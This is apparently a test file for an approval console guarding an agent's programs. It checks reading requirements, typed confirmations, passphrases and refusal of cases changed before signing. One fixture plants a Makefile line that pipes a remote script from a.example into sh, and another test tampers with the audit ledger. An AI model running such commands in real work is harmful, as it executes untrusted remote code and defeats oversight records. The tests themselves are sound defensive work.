"""Answering a case, with the keys that a person presses."""

from __future__ import annotations

import dataclasses
import shutil
import sqlite3
from contextlib import closing
from datetime import timedelta
from pathlib import Path

import pytest

from guard.events import Claimed
from guard.model import Case, Change, ChangeSet, Ending, EntryKind, Execution, FileType, Print, Stage
from guard.sandbox.changeset.blobs import Blobs
from tests.tui.build import (
    PASSPHRASE,
    ROOT,
    Bench,
    Hands,
    bench,
    console,
    opened,
    press,
    read,
    read_all,
    rehearsed,
    screen_text,
    settle,
    there,
    until,
    wait_dead,
)
from tui.app import Console
from tui.approve import ApproveDialog
from tui.case import CaseScreen
from tui.fields import Field
from tui.queue import QueueScreen
from tui.reject import RejectDialog

SIZES = [(80, 24), (160, 50)]


async def unlocked(of: Bench, app: Console) -> None:
    app.signer = await of.desk.unlock("ann", PASSPHRASE)


async def to_dialog(pilot, hands: Hands) -> None:
    """From the queue to the approve dialog, reading everything."""
    hands.turn(2)
    await press(pilot, hands, "enter")
    await read_all(pilot, hands)
    await press(pilot, hands, "a", apart=0.6)
    assert isinstance(pilot.app.screen, ApproveDialog), "\n".join(screen_text(pilot.app))
    await wait_dead(pilot, hands)


async def test_a_harmless_case_of_15_lines_takes_enter_space_a_right_enter(tmp_path: Path) -> None:
    async with bench(tmp_path) as of:
        await of.person()
        case = await of.week()
        app, hands = console(of)
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot)
            await unlocked(of, app)
            hands.turn(2)
            await press(pilot, hands, "enter")
            await read(pilot, hands)
            await press(pilot, hands, "space")
            await read(pilot, hands)
            await press(pilot, hands, "a")
            hint = "→ goes on to Sign and run"
            assert hint not in "\n".join(screen_text(app)), "not before it may be pressed"
            await wait_dead(pilot, hands)
            assert hint in "\n".join(screen_text(app))
            await press(pilot, hands, "right")
            assert hint not in "\n".join(screen_text(app))
            await press(pilot, hands, "enter", apart=0.6)
            await until(pilot, lambda: isinstance(app.screen, CaseScreen))
        answered = await of.desk.case(case.id)
        assert [a.person for a in answered.approvals] == ["ann"]
        assert answered.approvals[0].attended
        assert answered.approvals[0].shown.startswith("all 15 lines, all effects; open for")


@pytest.mark.parametrize("size", SIZES)
async def test_approve_does_nothing_before_all_was_on_the_screen_long_enough(tmp_path: Path, size: tuple[int, int]) -> None:
    """D3."""
    async with bench(tmp_path) as of:
        await of.person()
        await of.cleanup()
        async with opened(of, size=size) as (app, pilot, hands):
            await press(pilot, hands, "enter")
            for _ in range(30):
                await press(pilot, hands, "a", apart=0.05)
                assert isinstance(app.screen, CaseScreen)
                hands.turn(0.6)  # the key is not a held one; but the screen is repainted by each jump, so nothing has been there for long
                await press(pilot, hands, "1", "2", apart=0.05)
                if app.screen.reading.complete:
                    break
            assert isinstance(app.screen, CaseScreen)


async def test_level_three_asks_to_type_what_is_lost_and_signs_what_the_dialog_shows(tmp_path: Path) -> None:
    async with bench(tmp_path) as of:
        await of.person()
        case = await of.cleanup()
        app, hands = console(of)
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot)
            await to_dialog(pilot, hands)
            shown = "\n".join(screen_text(app))
            assert "deletes files in data/raw" in shown
            assert "sends data to hooks.example.net" in shown
            assert "Type “data/raw”" in shown
            assert case.seal[:4] in shown
            await press(pilot, hands, *PASSPHRASE)
            await press(pilot, hands, "enter")
            await press(pilot, hands, *"data/ra")
            await press(pilot, hands, "tab", "right", apart=0.6)
            await press(pilot, hands, "enter", apart=0.6)
            assert isinstance(app.screen, ApproveDialog)  # not typed in full: the button is dead
            assert not (await of.desk.case(case.id)).approvals
            await press(pilot, hands, "shift+tab", "shift+tab")
            await press(pilot, hands, *"w", apart=0.05)
            app.screen.query_one("#sign").focus()
            await press(pilot, hands, "enter", apart=0.6)
            await until(pilot, lambda: isinstance(app.screen, CaseScreen))
        assert (await of.desk.case(case.id)).approvals[0].seal == case.seal


async def test_a_wrong_passphrase_signs_nothing_and_says_so(tmp_path: Path) -> None:
    async with bench(tmp_path) as of:
        await of.person()
        case = await of.week()
        app, hands = console(of)
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot)
            await to_dialog(pilot, hands)
            await press(pilot, hands, *"wrong")
            await press(pilot, hands, "enter", "right", apart=0.6)
            await press(pilot, hands, "enter", apart=0.6)
            await until(pilot, lambda: "The passphrase is wrong" in "\n".join(screen_text(app)))
            assert isinstance(app.screen, ApproveDialog)
        assert not (await of.desk.case(case.id)).approvals


async def test_the_buttons_are_dead_at_first_and_after_a_resize(tmp_path: Path) -> None:
    async with bench(tmp_path) as of:
        await of.person()
        case = await of.week()
        app, hands = console(of)
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot)
            await unlocked(of, app)
            await to_dialog(pilot, hands)
            await pilot.resize_terminal(90, 28)
            await settle(pilot)
            await press(pilot, hands, "right", "enter", apart=0.1)
            await pilot.click("#sign")
            await settle(pilot)
            assert isinstance(app.screen, ApproveDialog)
            assert not (await of.desk.case(case.id)).approvals
            await wait_dead(pilot, hands)
            await pilot.click("#sign")
            await until(pilot, lambda: isinstance(app.screen, CaseScreen))
        assert (await of.desk.case(case.id)).approvals


@pytest.mark.parametrize(
    "what",
    ["code", "module", "grant", "box", "policy", "approved", "rejected", "expired", "replaced key", "other key", "removed", "ledger"],
)
async def test_what_moves_between_opening_and_signing_is_refused_with_its_sentence(tmp_path: Path, what: str) -> None:
    """D6: the signed bytes are those of the dialog, or nothing is signed."""
    async with bench(tmp_path) as of:
        await of.person()
        await of.person("bea", me=False)
        case = await of.week()
        app, hands = console(of)
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot)
            await unlocked(of, app)
            await to_dialog(pilot, hands)
            app.workers.cancel_group(app, "follow")  # as if the news had not come yet
            await pilot.pause()
            sentence = await _move(of, case, what, app)
            await press(pilot, hands, "right")
            await press(pilot, hands, "enter", apart=0.6)
            await until(pilot, lambda: isinstance(app.screen, CaseScreen))
            await settle(pilot)
            text = " ".join(" ".join(row.split()) for row in screen_text(app))
            assert sentence in text, text
        assert all(given.person != "ann" for given in (await of.desk.case(case.id)).approvals)


async def _move(of: Bench, case: Case, what: str, app: Console) -> str:
    if what == "policy":
        extra = '@id("writes-need-two") @why("x") forbid (principal, action in Guard::Action::"write", resource) unless { context.approvals >= 2 };'
        (of.root / "etc" / "policies" / "team.cedar").write_text(extra)
        await of.engine.refresh_policies()
        await of.engine.housekeeping.look()
        return "The policies changed; what is owed is now 2 people."
    if what == "code":
        await of.desk.edit(case, "print(1)", person="bea")
        return "bea edited it: case 0002."
    if what in ("module", "grant", "box"):
        # What an engine that offers to run it finds: a file that it imports, what it would be let out, or the box is another.
        now = case.analysis
        if what == "module":
            now = dataclasses.replace(now, modules=(("helper.py", "0" * 64),))
        if what == "grant":
            now = dataclasses.replace(now, effects=(*now.effects, of.effect("fs.write", "reports/other.md", 12)))
        box = dataclasses.replace(case.box, network="host") if what == "box" else None
        assert (await of.engine.feed(case.id, Claimed(analysis=now, box=box))).case.seal != case.seal
        return "The program changed after you read it."
    if what == "approved":
        given = await of.desk.approve(case, person="bea", signer=await of.desk.unlock("bea", PASSPHRASE), shown="all of it")
        assert given.refused is None
        return "bea approved it meanwhile. Look again."
    if what == "removed":
        await of.desk.remove_person("ann", person="bea")
        return "ann is not registered here"
    if what == "ledger":
        with closing(sqlite3.connect(of.root / "state" / "guard.db", isolation_level=None)) as other:
            other.execute("DROP TRIGGER ledger_is_not_edited")
            other.execute("UPDATE ledger SET body = CAST(replace(CAST(body AS TEXT), 'review', 'allows') AS BLOB) WHERE seq > 1")
        await of.desk.health(ledger=True)
        return "The ledger does not verify"
    if what == "rejected":
        await of.desk.reject(case.id, person="bea", reason="no")
        return "bea rejected it: no"
    if what == "expired":
        of.wall.time = case.expires_at
        await of.engine.housekeeping.look()
        return "Nobody answered before"
    assert app.me is not None
    from guard import keys

    other = keys.make(of.root / "elsewhere", "ann", PASSPHRASE)
    assert other != app.me.key
    if what == "replaced key":
        await of.store.set_key("ann", other, now=of.wall.now())
        return "Your key is not the registered one."
    app.signer = keys.unlock(of.root / "elsewhere", "ann", PASSPHRASE)
    return "Your key is not the registered one."


async def test_two_consoles_and_one_case_make_one_transition_and_the_other_says_who(tmp_path: Path) -> None:
    """D15."""
    async with bench(tmp_path) as of:
        await of.person()
        await of.person("bea", me=False)
        case = await of.week()
        app, hands = console(of)
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot)
            await unlocked(of, app)
            await to_dialog(pilot, hands)
            await of.desk.reject(case.id, person="bea", reason="not now")
            await until(pilot, lambda: isinstance(app.screen, CaseScreen))
            await until(pilot, lambda: "bea rejected it: not now. Nothing is left" in "\n".join(screen_text(app)))
            await press(pilot, hands, *"hunter2q", apart=0.2)
            assert isinstance(app.screen, CaseScreen), "what was being typed into the dialog opens and leaves nothing"
            hands.turn(1)
            await press(pilot, hands, "a", "r", apart=0.6)
            assert isinstance(app.screen, CaseScreen)  # nothing is offered
            await press(pilot, hands, "q")
            await until(pilot, lambda: isinstance(app.screen, QueueScreen))
        assert (await of.desk.case(case.id)).stage is Stage.REJECTED


async def test_a_rejection_needs_a_reason_and_gives_it_to_the_agent(tmp_path: Path) -> None:
    async with bench(tmp_path) as of:
        await of.person()
        case = await of.cleanup()
        async with opened(of) as (app, pilot, hands):
            await press(pilot, hands, "r", apart=0.6)
            assert isinstance(app.screen, RejectDialog)
            await press(pilot, hands, "ctrl+s", apart=0.6)
            assert isinstance(app.screen, RejectDialog)
            await press(pilot, hands, *"archive them", apart=0.05)
            await press(pilot, hands, "ctrl+s", apart=0.6)
            await until(pilot, lambda: isinstance(app.screen, QueueScreen))
        rejected = await of.desk.case(case.id)
        assert rejected.rejection is not None
        assert rejected.rejection.reason == "archive them"


async def test_without_a_key_the_policy_that_would_accept_it_is_asked_before_anybody_reads(tmp_path: Path) -> None:
    async with bench(tmp_path) as of:
        await of.person(key=False)
        await of.person("bea", me=False)
        await of.week()
        async with opened(of) as (app, pilot, hands):
            await press(pilot, hands, "enter")
            assert "! An unattended approval counts only under a policy that accepts it" in " ".join(screen_text(app))


async def test_without_a_key_a_policy_that_accepts_it_by_name_lets_one_approve_unattended(tmp_path: Path) -> None:
    async with bench(tmp_path) as of:
        await of.person(key=False)
        shutil.copy(ROOT / "policies" / "packs" / "unattended.cedar", of.root / "etc" / "policies")
        await of.engine.refresh_policies()
        case = await of.week()
        app, hands = console(of)
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot)
            await to_dialog(pilot, hands)
            text = "\n".join(screen_text(app))
            assert "without a key: unattended" in text
            assert "Passphrase" not in text
            await press(pilot, hands, "right")
            await press(pilot, hands, "enter", apart=0.6)
            await until(pilot, lambda: isinstance(app.screen, CaseScreen))
        assert [a.attended for a in (await of.desk.case(case.id)).approvals] == [False]


async def test_a_rehearsed_case_is_approved_only_after_all_that_it_changed_was_shown(tmp_path: Path) -> None:
    async with bench(tmp_path) as of:
        await of.person()
        case = await of.week()
        (of.root / "project" / "reports").mkdir()
        change = Change(kind=EntryKind.CREATED, path="Makefile", after=Print(type=FileType.FILE, mode=0o644, size=9, digest="0" * 64))
        execution = Execution(ending=Ending.EXITED, stdout="line\n" * 40, change_set=ChangeSet(changes=(change,)))
        tried = dataclasses.replace(case, execution=execution, rehearsed=True)
        await of.store.save(tried, (), now=of.wall.now(), before=case, policy_digest=None)
        app, hands = console(of)
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot)
            app.signer = await of.desk.unlock("ann", PASSPHRASE)
            hands.turn(2)
            await press(pilot, hands, "enter")
            assert "touched 1 path that was not predicted" in " ".join(screen_text(app))
            screen = app.screen
            assert isinstance(screen, CaseScreen)
            for key in ("1", "2", "2"):
                await press(pilot, hands, key)
                for _ in range(3):
                    await read(pilot, hands)
                    screen.view.scroll_rows(10)
            assert screen.reading.missing() is not None
            assert screen.reading.missing()[0] == "diff"
            await press(pilot, hands, "a", apart=0.6)
            assert screen.tab == 3  # where the first unread row is
            await press(pilot, hands, "n")
            assert screen.view.document.lines[screen.view.cursor].key == ("hunk", "Makefile")
            await read_all(pilot, hands)
            assert screen.reading.complete
            await press(pilot, hands, "a", apart=0.6)
            assert isinstance(app.screen, ApproveDialog)
            text = "\n".join(screen_text(app))
            assert "Sign and commit" in text
            assert "Type “1”" in text


async def test_what_is_planted_is_on_the_first_page_and_takes_its_name_to_approve_also_after_a_trial(tmp_path: Path) -> None:
    async with bench(tmp_path) as of:
        await of.person()
        case = await of.case(of.effect("fs.surface", "Makefile", 11))
        text = b"test:\n\tcurl -s https://a.example | sh\n"
        kept = dataclasses.replace(there(text), digest=Blobs(of.engine.config.state / "blobs").add(text))
        await rehearsed(of, case, Change(kind=EntryKind.CREATED, path="Makefile", after=kept))
        async with opened(of) as (app, pilot, hands):
            await unlocked(of, app)
            await press(pilot, hands, "enter")
            assert any("+ →   curl -s https://a.example | sh" in row for row in screen_text(app)), "\n".join(screen_text(app))
            await read_all(pilot, hands)
            await press(pilot, hands, "a", apart=0.6)
            dialog = app.screen
            assert isinstance(dialog, ApproveDialog)
            assert (dialog.friction.level, dialog.friction.typed) == (2, "Makefile")


async def test_a_wrong_word_is_told_with_the_right_one(tmp_path: Path) -> None:
    async with bench(tmp_path) as of:
        await of.person()
        await of.cleanup()
        async with opened(of) as (app, pilot, hands):
            await unlocked(of, app)
            await to_dialog(pilot, hands)
            await press(pilot, hands, *"data")
            await press(pilot, hands, "enter", apart=0.6)
            assert any("Type “data/raw”; you typed “data”." in row for row in screen_text(app))
            assert app.screen.focused is app.screen.query_one("#typed")
            await press(pilot, hands, "/")
            assert not any("you typed" in row for row in screen_text(app))


async def test_time_goes_on_while_a_case_is_open_and_in_what_is_signed(tmp_path: Path) -> None:
    async with bench(tmp_path) as of:
        await of.person()
        case = await of.week()
        async with opened(of) as (app, pilot, hands):
            await unlocked(of, app)
            await press(pilot, hands, "enter")
            assert "asked 1m ago" in screen_text(app)[0]
            of.wall.time += timedelta(minutes=4)
            hands.turn(2)
            await settle(pilot)
            assert "asked 5m ago" in screen_text(app)[0]
            await read_all(pilot, hands)
            await press(pilot, hands, "a", apart=0.6)
            hands.turn(60)
            await settle(pilot)
            await press(pilot, hands, "right")
            await press(pilot, hands, "enter", apart=0.6)
            await until(pilot, lambda: isinstance(app.screen, CaseScreen))
        (approval,) = (await of.desk.case(case.id)).approvals
        assert int(approval.shown.split()[-2]) >= 60


async def test_a_wrong_passphrase_is_typed_anew_where_it_stood(tmp_path: Path) -> None:
    async with bench(tmp_path) as of:
        await of.person()
        case = await of.week()
        async with opened(of) as (app, pilot, hands):
            await to_dialog(pilot, hands)
            await press(pilot, hands, *"wrong", "tab", "right", apart=0.6)
            await press(pilot, hands, "enter", apart=0.6)
            await until(pilot, lambda: "The passphrase is wrong" in "\n".join(screen_text(app)))
            assert isinstance(app.focused, Field)
            assert app.focused.value == ""
            await press(pilot, hands, *PASSPHRASE, "tab", "right", apart=0.6)
            assert "The passphrase is wrong" not in "\n".join(screen_text(app))
            await press(pilot, hands, "enter", apart=0.6)
            await until(pilot, lambda: isinstance(app.screen, CaseScreen))
        assert (await of.desk.case(case.id)).approvals


async def test_after_three_approvals_of_its_like_the_dialog_names_the_other_way(tmp_path: Path) -> None:
    async with bench(tmp_path) as of:
        await of.person()
        signer = await of.desk.unlock("ann", PASSPHRASE)
        for i in range(3):
            earlier = await of.week(code=f"print({i})", ago=900 - i)
            await of.desk.approve(earlier, person="ann", signer=signer, shown="all 1 line")
        await of.week(ago=1000)
        async with opened(of) as (app, pilot, hands):
            await press(pilot, hands, "g")
            await to_dialog(pilot, hands)
            assert "its like was approved 3 times: w lets it run for a while" in "\n".join(screen_text(app))


async def test_who_signed_already_is_told_so_and_not_asked_to_sign_again(tmp_path: Path) -> None:
    async with bench(tmp_path) as of:
        two = '@id("writes-need-two") @why("x") forbid (principal, action in Guard::Action::"write", resource) unless { context.approvals >= 2 };'
        (of.root / "etc" / "policies" / "team.cedar").write_text(two)
        await of.engine.refresh_policies()
        await of.person()
        await of.person("bea", me=False)
        case = await of.week()
        signer = await of.desk.unlock("ann", PASSPHRASE)
        assert (await of.desk.approve(case, person="ann", signer=signer, shown="all of it")).refused is None
        async with opened(of) as (app, pilot, hands):
            assert any("1 of 2" in row for row in screen_text(app))
            await press(pilot, hands, "enter", apart=0.6)
            await read_all(pilot, hands)
            assert any("all of it · You have signed it; 1 more person must." in row for row in screen_text(app))
            await press(pilot, hands, "a", apart=0.6)
            assert isinstance(app.screen, CaseScreen)
            await of.desk.approve(case, person="bea", signer=await of.desk.unlock("bea", PASSPHRASE), shown="all of it")
            await of.engine.feed(case.id, Claimed(analysis=case.analysis))
            assert (await of.engine.settled(case.id, 5)).stage is Stage.INTERRUPTED, "this engine has no box"
            hands.turn(2)
            await until(pilot, lambda: any("✓ Approved by ann and bea." in row for row in screen_text(app)))
            assert not any("You have signed it" in row for row in screen_text(app))
